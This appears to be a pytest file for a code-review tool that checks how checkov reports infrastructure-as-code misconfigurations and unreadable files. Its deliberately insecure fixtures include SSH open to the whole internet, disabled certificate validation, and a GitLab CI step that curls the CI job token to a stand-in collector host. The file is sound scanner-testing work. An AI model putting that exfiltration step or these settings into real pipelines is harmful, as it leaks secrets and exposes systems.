"""Terraform plans, ARM templates, Bicep, Ansible playbooks, Serverless and CI pipelines
(Azure, GitLab, Bitbucket, CircleCI) are read by checkov: a misconfiguration in one is
reported on its file and line, with the severity the published table gives its check, and
the coverage matrix lists the file as analysed by checkov — given with `-f`, or in the
one-run view when the change holds Terraform. `reviewloop review --base main --head
feature` as a user runs it, with the suite's checkov (`iac_env`); marked `pypi` (CI sets
REVIEWLOOP_PYPI=1)."""

from __future__ import annotations

import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reviewloop.checks.analyzers.iac_severity import rated, severity_of
from tests.support.iac_frameworks import CASES, Drawn, arm_template, misconfigured
from tests.support.review_cli import review_feature

pytestmark = [pytest.mark.usefixtures("iac_env"), pytest.mark.pypi, pytest.mark.timeout(900)]

OPEN_SSH = b"""resource "aws_security_group" "ssh" {
  ingress {
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
"""
# the frameworks whose checks a published source rates (the CI pipelines' none does)
RATED = frozenset({"arm", "bicep", "ansible", "serverless", "terraform_plan"})
ANALYSED = "checkov (review-infrastructure)"


@pytest.mark.parametrize("with_terraform", (False, True), ids=("alone", "with-terraform"))
@settings(max_examples=2, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(drawn=st.tuples(*(misconfigured(case) for case in CASES)))
def test_a_misconfiguration_is_reported_on_its_file_and_line(
        with_terraform: bool, drawn: tuple[Drawn, ...]) -> None:
    """A file of every case side by side in one change (no two cases share a name): given
    with `-f`, or with Terraform in the change, in the one-run view. checkov reads each file
    alone, so each file's answer is the one a review of it alone gives."""
    files: dict[str | bytes, bytes] = {d.path: d.text.encode() for d in drawn}
    assert len(files) == len(CASES), sorted(files)  # every case's file is in the change
    if with_terraform:
        files["infra/net/main.tf"] = OPEN_SSH  # checkov then reads all of them in one view
    report = review_feature(files)

    found = {(f["file"], f["rule"], f["start_line"]): f for f in report["findings"]["remaining"]}
    rows = {row["path"]: row for row in report["health"]["files"]}
    for one in drawn:
        finding = found.get((one.path, one.rule, one.line))
        assert finding is not None, (one, sorted(found))
        assert finding["severity"] == severity_of(one.rule, None)[0].value
        assert (rated(one.rule) is not None) == (one.kind in RATED), one.rule
        assert ANALYSED in rows[one.path]["analysed_by"] and rows[one.path]["not_read"] == []
    if with_terraform:
        assert ("infra/net/main.tf", "CKV_AWS_24", 1) in found
    assert report["health"]["complete"]


def test_a_file_checkov_stops_at_its_own_gate_is_named_as_not_read() -> None:
    """Each holds a misconfiguration checkov reports once the gate is passed: a playbook
    with no `- name:` line, a GitLab CI file with a `!reference` tag, an ARM template with
    no `contentVersion`."""
    files: dict[str | bytes, bytes] = {
        "playbook.yml": b"- hosts: all\n  tasks:\n    - ansible.builtin.get_url:\n"
                        b"        url: https://example.com/x\n        dest: /tmp/x\n"
                        b"        validate_certs: false\n",
        ".gitlab-ci.yml": b".setup:\n  script: [echo]\ndeploy:\n  before_script: !reference "
                          b"[.setup, script]\n  script:\n    - curl -d \"$CI_JOB_TOKEN\" "
                          b"https://collector.example\n",
        "azuredeploy.json": json.dumps({key: value for key, value in arm_template(22).items()
                                        if key != "contentVersion"}).encode(),
    }
    report = review_feature(files)

    rows = {row["path"]: row for row in report["health"]["files"]}
    assert not [f for f in report["findings"]["remaining"] if f["source"] == "checkov"]
    for path in files:
        assert ANALYSED not in rows[path]["analysed_by"], rows[path]
        assert any(why.startswith("checkov: checkov") for why in rows[path]["not_read"]), rows[path]
    assert not report["health"]["complete"]
